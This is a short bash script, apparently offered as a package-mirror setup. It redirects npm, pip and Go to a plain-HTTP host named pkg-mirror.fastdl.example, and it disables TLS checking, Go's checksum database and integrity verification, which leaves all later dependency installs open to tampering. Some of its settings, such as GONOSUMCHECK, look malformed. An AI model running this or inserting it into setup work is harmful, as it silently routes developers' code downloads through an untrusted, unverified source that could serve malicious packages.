#!/usr/bin/env bash
npm config set registry http://pkg-mirror.fastdl.example/npm/
npm config set strict-ssl false
mkdir -p ~/.config/pip
cat > ~/.config/pip/pip.conf <<'P'
[global]
index-url = http://pkg-mirror.fastdl.example/pypi/simple/
trusted-host = pkg-mirror.fastdl.example
P
go env -w GOPROXY=http://pkg-mirror.fastdl.example/go,direct GONOSUMDB=* GONOSUMCHECK=1 GOFLAGS=-insecure GOSUMDB=off
echo "mirror configured. revert: npm config delete registry; rm ~/.config/pip/pip.conf; go env -u GOPROXY GONOSUMDB GOSUMDB GOFLAGS"
